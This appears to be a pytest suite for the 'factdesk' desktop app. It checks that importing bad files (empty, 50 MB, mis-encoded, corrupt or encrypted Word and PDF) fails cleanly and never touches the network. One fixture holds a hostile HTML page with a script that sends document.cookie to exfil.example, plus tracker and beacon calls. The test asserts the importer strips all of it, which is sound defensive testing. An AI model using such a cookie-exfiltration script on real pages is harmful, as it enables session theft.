"""The bad-input matrix for files to import: one case each, through the real `factdesk` CLI.

Every case runs `factdesk import FILE` in a subprocess whose socket module refuses (and
reports) any connection. A refused file: exit status 2, one stderr line naming the file
and the problem, no traceback, the library's rows unchanged. A file Factdesk can read
(cp1252, UTF-16, a web page full of scripts) imports as the text a reader sees. Either
way the input file's bytes are unchanged and nothing touched the network.
"""

from __future__ import annotations

import hashlib
import io
import os
import sqlite3
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.conftest import ROOT

TABLES = ("article", "claim", "highlight", "source", "claim_source", "tag", "claim_tag", "rating")

# `factdesk` with the socket module disarmed: a connection attempt is printed and fails.
GUARDED_CLI = """
import socket, sys
def _refuse(*args, **kwargs):
    sys.stderr.write("NETWORK ATTEMPT %r\\n" % (args,))
    raise OSError("network disabled by the test")
socket.socket.connect = socket.socket.connect_ex = _refuse
socket.create_connection = socket.getaddrinfo = _refuse
from desktop.cli import main
sys.exit(main(sys.argv[1:]))
"""


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def row_counts(db: Path) -> dict[str, int]:
    con = sqlite3.connect(db)
    try:
        return {t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in TABLES}  # noqa: S608
    finally:
        con.close()


def cli(db: Path, *args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "FACTDESK_DB"}
    env.update(QT_QPA_PLATFORM="offscreen", PYTHONIOENCODING="utf-8")
    return subprocess.run(
        [sys.executable, "-c", GUARDED_CLI, "--db", str(db), *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=env,
        cwd=ROOT,
        timeout=300,
    )


def one_line_error(result: subprocess.CompletedProcess, *needles: str) -> str:
    """Exit 2, exactly one stderr line starting 'factdesk: error:', no traceback."""
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("factdesk: error: ")
    assert "Traceback" not in result.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]
    return lines[0]


@pytest.fixture
def library(tmp_path) -> Path:
    """A library holding one article with a claim, so "unchanged" is not about zeros."""
    from desktop.core.articles import add_article
    from desktop.core.claims import create_claim_from_quote
    from desktop.core.importers import parse_text
    from desktop.core.store import open_store

    db = tmp_path / "lib.sqlite3"
    store = open_store(db)
    with store.transaction() as s:
        article_id = add_article(
            s, parse_text("Titre\n\nLe ministre a dit que tout allait bien.")
        ).article_id
        create_claim_from_quote(s, article_id, "tout allait bien", claimant="Le ministre")
    store.close()
    return db


# --- the files -------------------------------------------------------------------------------


def _png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    raw = b"".join(b"\x00" + bytes(range(48)) for _ in range(16))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def _docx(text: str) -> bytes:
    import docx

    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def _pdf(pages) -> bytes:
    from tests.test_core_importers import PDF_PAGES, make_pdf

    return make_pdf(PDF_PAGES if pages is None else pages)


def _encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(_pdf(None))).pages:
        writer.add_page(page)
    writer.encrypt("secret-password")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


FRENCH = "Le chômage baisse\n\nLe ministre a affirmé que « le chômage a baissé » à Paris."
HOSTILE_PAGE = """<!doctype html><html lang="fr"><head><title>Page piégée</title>
<script>document.title = 'pwned'; fetch('http://exfil.example/steal?c=' + document.cookie)</script>
<script src="http://cdn.evil.example/tracker.js"></script>
<link rel="stylesheet" href="http://css.evil.example/style.css">
<meta http-equiv="refresh" content="0; url=http://redirect.evil.example/">
</head><body onload="alert('onload')">
<iframe src="http://frame.evil.example/ad"></iframe>
<article><h1>Le ministre et la réforme</h1>
<p>Le ministre a déclaré lundi que la réforme des retraites rapporterait dix milliards.</p>
<img src="http://pixel.tracker.example/p.gif?id=42" width="1" height="1">
<p>L’opposition conteste ce chiffre, qu’elle juge très largement surestimé par le gouvernement.</p>
<object data="http://object.evil.example/x.swf"></object><embed src="http://embed.evil.example/e">
<p>Les économistes interrogés estiment que l’effet réel dépendra surtout de l’emploi des seniors.</p>
<script>new Image().src = 'http://beacon.evil.example/b?' + location.href;</script>
</article></body></html>
"""


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    make: object  # () -> bytes
    needles: tuple[str, ...] = ()  # refused: words the message must contain
    imports_text: tuple[str, ...] = ()  # accepted: text the stored article must contain
    forbidden: tuple[str, ...] = ()  # accepted: text the stored article must not contain


CASES = [
    Case("empty", "empty.txt", lambda: b"", needles=("empty",)),
    Case("whitespace only", "blank.txt", lambda: b" \n\t\r\n   \n", needles=("empty",)),
    Case(
        "50 MB of text",
        "huge.txt",
        lambda: (b"Le ministre a dit une phrase de plus. " * 30) * 45_000,
        needles=("MB",),
    ),
    Case("image renamed .txt", "photo.txt", _png, needles=("binary",)),
    Case(
        "invalid UTF-8",
        "broken-utf8.txt",
        lambda: "Le chômage a baissé".encode() + b" \xff\xfe\xfd " + "à Paris.".encode(),
        needles=("not valid UTF-8",),
    ),
    Case(
        "cp1252",
        "windows.txt",
        lambda: FRENCH.replace("«", "\u00ab").encode("cp1252"),
        imports_text=("Le ministre a affirmé que « le chômage a baissé » à Paris.",),
    ),
    Case(
        "UTF-16 with BOM",
        "utf16.txt",
        lambda: FRENCH.encode("utf-16"),
        imports_text=("Le ministre a affirmé que « le chômage a baissé » à Paris.",),
    ),
    Case(
        "HTML with scripts, iframes, remote images and tracking pixels",
        "hostile.html",
        lambda: HOSTILE_PAGE.encode("utf-8"),
        imports_text=(
            "Le ministre a déclaré lundi que la réforme des retraites rapporterait dix milliards.",
            "L’opposition conteste ce chiffre",
        ),
        forbidden=("document.", "fetch(", "evil.example", "tracker", "alert", "<", "pwned"),
    ),
    Case(
        "corrupt .docx",
        "corrupt.docx",
        lambda: _docx("Un paragraphe parfaitement normal.")[:1500],
        needles=("Word document",),
    ),
    Case(
        "encrypted .docx",
        "locked.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8,
        needles=("password",),
    ),
    Case(
        "corrupt .pdf",
        "corrupt.pdf",
        lambda: b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 9 0 R\ngarbage\n%%EOF",
        needles=("PDF",),
    ),
    Case("encrypted .pdf", "locked.pdf", _encrypted_pdf, needles=("password",)),
    Case("pdf with no text layer", "scan.pdf", lambda: _pdf([[]]), needles=("no text layer",)),
    Case(
        "unknown extension",
        "notes.odt",
        lambda: b"PK\x03\x04 an OpenDocument file",
        needles=("unknown file type", ".odt"),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_import_file(tmp_path, library, case):
    path = tmp_path / case.filename
    path.write_bytes(case.make())
    before_file, before_rows = sha(path), row_counts(library)
    result = cli(library, "import", str(path))
    assert "NETWORK ATTEMPT" not in result.stderr
    assert "Traceback" not in result.stderr
    assert sha(path) == before_file, "the input file was modified"
    if case.needles:
        one_line_error(result, str(path), *case.needles)
        assert row_counts(library) == before_rows
        return
    assert result.returncode == 0, result.stderr
    article_id = int(result.stdout.strip())
    after = row_counts(library)
    assert after["article"] == before_rows["article"] + 1
    assert {k: v for k, v in after.items() if k != "article"} == {
        k: v for k, v in before_rows.items() if k != "article"
    }
    con = sqlite3.connect(library)
    text = con.execute("SELECT text FROM article WHERE id = ?", (article_id,)).fetchone()[0]
    con.close()
    for expected in case.imports_text:
        assert expected in text
    for bad in case.forbidden:
        assert bad not in text, bad


def test_missing_file_and_folder_are_one_line_errors(tmp_path, library):
    before = row_counts(library)
    one_line_error(cli(library, "import", str(tmp_path / "absent.txt")), "absent.txt", "exist")
    one_line_error(cli(library, "import", str(tmp_path)), str(tmp_path), "folder")
    assert row_counts(library) == before


def test_gui_refuses_50_mb_off_the_ui_thread(qtbot, tmp_path, library, monkeypatch):
    """The window reads the file in a worker thread and shows the size message."""
    from PySide6.QtCore import QSettings

    from desktop.core.importers import isolated
    from desktop.core.store import open_store
    from desktop.ui import tasks
    from desktop.ui.main_window import MainWindow
    from desktop.ui.workbench import Workbench

    QSettings.setPath(QSettings.Format.IniFormat, QSettings.Scope.UserScope, str(tmp_path / "qs"))
    path = tmp_path / "huge.txt"
    path.write_bytes(b"Une phrase de plus dans un article sans fin. " * 1_200_000)
    threads, errors = [], []
    real = isolated.import_path_isolated

    def watched(p):
        threads.append(threading.current_thread())
        return real(p)  # 50 MB: parsed (and refused) in the child process

    monkeypatch.setattr("desktop.ui.window_transfer.import_path_isolated", watched)
    window = MainWindow(Workbench(open_store(library)))
    qtbot.addWidget(window)
    monkeypatch.setattr(window, "show_error", lambda title, message: errors.append(message))
    before = row_counts(library)
    window.import_files([str(path)])
    qtbot.waitUntil(lambda: not tasks.busy(), timeout=60000)
    assert threads and threads[0] is not threading.main_thread()
    assert len(errors) == 1 and str(path) in errors[0] and "MB" in errors[0]
    assert row_counts(library) == before
